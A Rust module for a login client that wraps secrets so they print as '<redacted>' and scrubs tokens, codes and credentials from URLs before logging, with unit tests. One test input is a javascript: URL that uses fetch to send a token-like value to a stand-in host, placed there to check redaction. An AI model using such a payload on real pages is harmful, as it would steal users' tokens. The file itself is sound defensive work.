//! Secret values and log redaction: tokens, refresh tokens, codes and cookies never print.

use std::fmt;

use serde::{Deserialize, Deserializer, Serialize, Serializer};
use url::Url;

/// A value that must never reach a log. `Debug` and `Display` print `<redacted>`;
/// the only way out is [`Secret::expose`], which makes every use greppable.
#[derive(Clone, PartialEq, Eq, Default)]
pub struct Secret<T>(T);

impl<T> Secret<T> {
    pub fn new(value: T) -> Self {
        Secret(value)
    }

    pub fn expose(&self) -> &T {
        &self.0
    }

    pub fn into_inner(self) -> T {
        self.0
    }
}

impl<T> fmt::Debug for Secret<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("<redacted>")
    }
}

impl<T> fmt::Display for Secret<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("<redacted>")
    }
}

impl<T> From<T> for Secret<T> {
    fn from(value: T) -> Self {
        Secret(value)
    }
}

// Serialising a secret is deliberate (token JSON on stdout, the pipe); deserialising wraps at once.
impl<T: Serialize> Serialize for Secret<T> {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        self.0.serialize(s)
    }
}

impl<'de, T: Deserialize<'de>> Deserialize<'de> for Secret<T> {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        T::deserialize(d).map(Secret)
    }
}

/// Query keys whose values are shown in logs. Every other value is redacted: IdPs carry
/// their own transaction and session handles in URLs (`stateToken`, `flowToken`, `ctx`, `txn`…),
/// and a list of known secret names would always be one short.
const PUBLIC_KEYS: &[&str] = &[
    "cc_username",
    "return_refresh_token",
    "return_user",
    "client_id",
    "response_type",
    "redirect_uri",
    "scope",
    "error",
    "error_description",
];

/// Whether a query key's value may appear in a log.
pub fn is_public_key(key: &str) -> bool {
    let key = key.to_ascii_lowercase();
    PUBLIC_KEYS.contains(&key.as_str())
}

/// A URL fit for a log line: no userinfo, query values replaced by `<redacted>` unless
/// [`is_public_key`],
/// no fragment (OAuth implicit flows put tokens there).
pub fn url(url: &Url) -> String {
    // `data:`, `javascript:`, `blob:`… carry their payload in an opaque path (a data URL can
    // hold a whole token answer): show the scheme and the size only.
    if url.cannot_be_a_base() || url.scheme() == "blob" {
        return format!("{}:<{} bytes>", url.scheme(), url.as_str().len());
    }
    let mut u = url.clone();
    let _ = u.set_username("");
    let _ = u.set_password(None);
    u.set_fragment(None);
    if u.query().is_some() {
        let pairs: Vec<(String, String)> = url
            .query_pairs()
            .map(|(k, v)| {
                let v = if is_public_key(&k) {
                    v.into_owned()
                } else {
                    "<redacted>".to_string()
                };
                (k.into_owned(), v)
            })
            .collect();
        u.query_pairs_mut().clear().extend_pairs(pairs);
    }
    u.to_string()
}

/// Like [`url`] for a string that may not parse; unparsable input is cut to its scheme.
pub fn url_str(s: &str) -> String {
    match Url::parse(s) {
        Ok(u) => url(&u),
        Err(_) => format!("<unparsable url of {} bytes>", s.len()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secret_never_formats_its_value() {
        let s = Secret::new("eyJhbGciOi.secret".to_string());
        assert_eq!(format!("{s:?} {s}"), "<redacted> <redacted>");
        assert_eq!(s.expose(), "eyJhbGciOi.secret");
        assert_eq!(serde_json::to_string(&s).unwrap(), "\"eyJhbGciOi.secret\"");
    }

    /// Found by tests/it/hostile.rs (`--forge data-redirect`): a refused `data:` URL holding a
    /// token-shaped JSON was quoted whole in the refusal message.
    #[test]
    fn opaque_urls_show_only_their_scheme_and_size() {
        for s in [
            "data:application/json,%7B%22token%22%3A%22eyJsecret%22%7D",
            "javascript:fetch('//x/?t='+eyJsecret)",
            "blob:https://idp.example/eyJsecret",
        ] {
            let r = url_str(s);
            assert!(!r.contains("eyJsecret"), "{r}");
            assert!(r.ends_with(" bytes>"), "{r}");
        }
    }

    #[test]
    fn url_redaction_hides_codes_tokens_and_userinfo() {
        let u = Url::parse(
            "https://bob:pw@f.example:8445/desktop/sso/authcode?code=abc123&state=xyz&cc_username=agent1#access_token=t",
        )
        .unwrap();
        let r = url(&u);
        assert!(
            !r.contains("abc123") && !r.contains("xyz") && !r.contains("pw"),
            "{r}"
        );
        assert!(!r.contains("access_token=t"), "{r}");
        assert!(r.contains("cc_username=agent1"), "{r}");
        assert!(r.contains("code=%3Credacted%3E"), "{r}");
    }

    /// Found by tests/it/secrets.rs: the emulated IdP's login transaction id (`txn`) reached
    /// `-vv` logs; real IdPs have the like (`stateToken`, `flowToken`), so values are hidden
    /// unless known to be harmless.
    #[test]
    fn unknown_query_values_are_redacted() {
        let r = url_str(
            "https://idp.example/login?txn=5c04b7&stateToken=00abc&client_id=finesse&scope=openid",
        );
        assert!(!r.contains("5c04b7") && !r.contains("00abc"), "{r}");
        assert!(r.contains("txn=") && r.contains("stateToken="), "{r}");
        assert!(
            r.contains("client_id=finesse") && r.contains("scope=openid"),
            "{r}"
        );
    }

    #[test]
    fn unparsable_url_is_not_echoed() {
        assert!(!url_str("not a url with secret").contains("secret"));
    }
}
